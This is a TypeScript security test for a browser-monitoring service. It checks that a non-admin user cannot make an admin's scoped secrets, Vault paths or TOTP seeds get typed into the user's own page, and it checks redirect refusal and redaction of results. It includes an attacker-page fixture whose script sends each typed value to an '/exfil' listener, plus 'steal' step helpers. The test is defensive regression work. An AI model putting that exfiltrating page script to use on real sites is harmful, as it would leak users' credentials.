/**
 * docs/security.md §1 (review F1): named secrets, TOTP seeds and Vault paths have scopes an admin sets. Through the
 * HTTP API as `user` bob, in real Chromium: the review's attack (type an admin's secret into bob's own page, which
 * reverses it into an element bob extracts and sends it to /exfil) is refused at create with 400 naming body.steps,
 * and at run time when a redirect moves an allowed page to bob's origin (before the fix: 201, and the run delivered
 * the value to bob's listener and, reversed, into the result). Unscoped references are an admin's only; vaultToken
 * never resolves; a resolved value is redacted from every string of the result, navigation URLs included.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { startMonitor, type MonitorHarness } from '../support/monitor.harness.js';
import type { HttpsClient } from '../support/https-client.kit.js';

const SECRET = 'Pr0d-Payroll-Password';
const reversed = [...SECRET].reverse().join('');
const PAGE = `<!doctype html><input id="p"><div id="out"></div><script>
document.getElementById('p').addEventListener('input', (e) => { const v = e.target.value;
  document.getElementById('out').textContent = v.split('').reverse().join('');
  fetch('/exfil?v=' + encodeURIComponent(v)); });</script>`;
/** The allowed site echoes the value and navigates to a URL that carries it (a leak through navigation timings). */
const ECHO = `<!doctype html><input id="p"><div id="out"></div><script>
const p = document.getElementById('p');
p.addEventListener('input', () => { document.getElementById('out').textContent = p.value; });
p.addEventListener('change', () => { location.href = '/next?v=' + encodeURIComponent(p.value); });
</script>`;

let h: MonitorHarness;
let bob: HttpsClient;
let evil: http.Server;
let good: http.Server;
let evilUrl: string;
let goodUrl: string;
const exfil: string[] = [];

async function serve(handler: http.RequestListener): Promise<[http.Server, string]> {
  const s = http.createServer(handler);
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  return [s, `http://127.0.0.1:${(s.address() as AddressInfo).port}`];
}

const chromium = fs.existsSync('/usr/bin/chromium');
before(async () => {
  if (!chromium && process.env.CI === 'true') throw new Error('chromium is missing (apt-get install chromium)');
  h = await startMonitor();
  for (const [username, group] of [
    ['bob', 'user'],
    ['carol', 'admin'],
  ])
    assert.equal(
      (
        await h.admin.request('POST', '/api/users', {
          body: { username, password: `${username}-pass-123456`, group, enabled: 'true' },
        })
      ).status,
      201,
    );
  bob = h.client();
  await bob.login('bob', 'bob-pass-123456');
  [evil, evilUrl] = await serve((req, res) => {
    if (req.url?.startsWith('/exfil')) exfil.push(new URL(req.url, 'http://x').searchParams.get('v') ?? '');
    res.setHeader('content-type', 'text/html');
    res.end(PAGE);
  });
  [good, goodUrl] = await serve((req, res) => {
    if (req.url === '/go') return void res.writeHead(302, { location: `${evilUrl}/page` }).end();
    if (req.url?.startsWith('/next')) return void res.end('next');
    res.setHeader('content-type', 'text/html');
    res.end(ECHO);
  });
  assert.equal((await h.admin.request('POST', '/secrets/payrollPw', { body: { value: SECRET } })).status, 200);
});
after(async () => {
  await h?.stop();
  await new Promise((r) => evil?.close(r));
  await new Promise((r) => good?.close(r));
});

const exec = (name: string, steps: unknown[]) => ({
  name,
  sched: '60MIN',
  state: 'off',
  artifacts: 'never',
  har: 'false',
  timeout: '30',
  steps,
});
const steal = (url: string, value = '{{secret:payrollPw}}') => [
  { action: 'goto', url },
  { action: 'fill', selector: '#p', value },
  { action: 'sleep', ms: 300 },
  { action: 'extract', selector: '#out', as: 'rev' },
];

test('the review attack: an unscoped secret, a Vault path or a TOTP seed in a user’s steps is 400', async () => {
  const cases: [unknown[], RegExp][] = [
    [steal(`${evilUrl}/page`), /\{\{secret:payrollPw\}\} has no scope/],
    [
      steal(`${evilUrl}/page`, '{{vault:secret/payroll#password}}'),
      /\{\{vault:secret\/payroll#password\}\} has no scope/,
    ],
    [
      [
        { action: 'goto', url: `${evilUrl}/page` },
        { action: 'totp', selector: '#p', secret: 'payrollPw' },
      ],
      /totp:payrollPw/,
    ],
  ];
  for (const [i, [steps, msg]] of cases.entries()) {
    const r = await bob.request('POST', '/exec/create', { body: exec(`steal-${i}`, steps) });
    assert.equal(r.status, 400, r.text);
    assert.equal(r.body.field, 'body.steps');
    assert.match(r.body.message, msg);
  }
  const token = await h.admin.request('POST', '/exec/create', {
    body: exec('vault-token', steal(`${goodUrl}/`, '{{secret:vaultToken}}')),
  });
  assert.equal(token.status, 400, 'vaultToken never resolves in a template, not even for an admin');
  assert.match(token.body.message, /Vault client's credential/);
});

test('a scoped secret: only its monitors, only on its origins; checked again where the value is typed', async () => {
  const scope = { monitors: ['payroll-login'], tags: ['payroll'], origins: [goodUrl] };
  const s = await h.admin.request('POST', '/secrets/payrollPw/scope', { body: scope });
  assert.equal(s.status, 200, s.text);
  assert.ok(!s.text.includes(SECRET));
  const listed = await bob.request('GET', '/secrets');
  assert.equal(listed.status, 403, 'users still cannot list secrets');
  // Its name, on bob's origin: refused.
  const evilOrigin = await bob.request('POST', '/exec/create', {
    body: exec('payroll-login', steal(`${evilUrl}/page`)),
  });
  assert.equal(evilOrigin.status, 400, evilOrigin.text);
  assert.match(evilOrigin.body.message, /may not be typed on http:\/\/127\.0\.0\.1:\d+ \(its scope allows/);
  // The right origin, another monitor without the tag: refused.
  const other = await bob.request('POST', '/exec/create', { body: exec('other', steal(`${goodUrl}/`)) });
  assert.equal(other.status, 400, other.text);
  assert.match(other.body.message, /not in scope for monitor other/);
  // By tag, on the allowed origin: accepted, and it runs.
  const tagged = await bob.request('POST', '/exec/create', {
    body: { ...exec('tagged', steal(`${goodUrl}/`)), tags: '[payroll]' },
  });
  assert.equal(tagged.status, 201, tagged.text);
  const run = await bob.request('GET', '/monitor/run/tagged/show');
  assert.equal(run.body.status, 'OK', run.text);
  // The allowed origin redirects to bob's page: refused at the moment of typing.
  const redirected = await bob.request('POST', '/exec/create', { body: exec('payroll-login', steal(`${goodUrl}/go`)) });
  assert.equal(redirected.status, 201, redirected.text);
  const r = await bob.request('GET', '/monitor/run/payroll-login/show');
  assert.equal(r.body.status, 'EXCEPTION', r.text);
  assert.match(r.body.message, /may not be typed on http:\/\/127\.0\.0\.1/);
  assert.ok(!r.text.includes(SECRET) && !r.text.includes(reversed), 'nothing of the value in the result');
  assert.deepEqual(exfil, [], "bob's page received nothing");
  // Moving the tagged monitor to bob's page is refused at update.
  const moved = await bob.request('POST', '/exec/update/60MIN/tagged', { body: { steps: steal(`${evilUrl}/page`) } });
  assert.equal(moved.status, 400, moved.text);
  assert.equal(moved.body.field, 'body.steps');
});

test('a resolved value is redacted from every string of the result, navigation URLs included', async () => {
  const steps = [
    { action: 'goto', url: `${goodUrl}/` },
    { action: 'fill', selector: '#p', value: '{{secret:payrollPw}}' },
    { action: 'extract', selector: '#out', as: 'echo' },
    { action: 'press', selector: '#p', key: 'Tab' },
    { action: 'waitFor', url: '/next' },
    { action: 'assertText', text: SECRET, timeoutMs: 300 },
  ];
  const c = await h.admin.request('POST', '/exec/create', { body: { ...exec('echo', steps), tags: '[payroll]' } });
  assert.equal(c.status, 201, c.text);
  const r = await h.admin.request('GET', '/monitor/run/echo/show');
  assert.equal(r.body.details.extracted.echo, '***', r.text);
  assert.ok(
    (r.body.details.navigations as Array<{ url: string }>).some((n) => n.url.includes('/next?v=***')),
    `the navigation to /next?v=<value> is listed, redacted: ${r.text}`,
  );
  assert.ok(!r.text.includes(SECRET) && !r.text.includes(encodeURIComponent(SECRET)), `no trace: ${r.text}`);
});

test('an unscoped secret runs only for a monitor an admin changed last', async () => {
  assert.equal(
    (await h.admin.request('POST', '/secrets/legacyPw', { body: { value: 'Legacy-Unscoped-Pw' } })).status,
    200,
  );
  const carol = h.client();
  await carol.login('carol', 'carol-pass-123456');
  const steps = steal(`${goodUrl}/`, '{{secret:legacyPw}}');
  assert.equal((await carol.request('POST', '/exec/create', { body: exec('legacy', steps) })).status, 201);
  assert.equal((await carol.request('GET', '/monitor/run/legacy/show')).body.status, 'OK');
  // carol is no admin any more: the monitor she saved no longer resolves the unscoped secret.
  const demote = await h.admin.request('PATCH', '/api/users', { body: { username: 'carol', group: 'user' } });
  assert.equal(demote.status, 200, demote.text);
  const r = await h.admin.request('GET', '/monitor/run/legacy/show');
  assert.equal(r.body.status, 'EXCEPTION', r.text);
  assert.match(r.body.message, /legacyPw\}\} has no scope/);
});
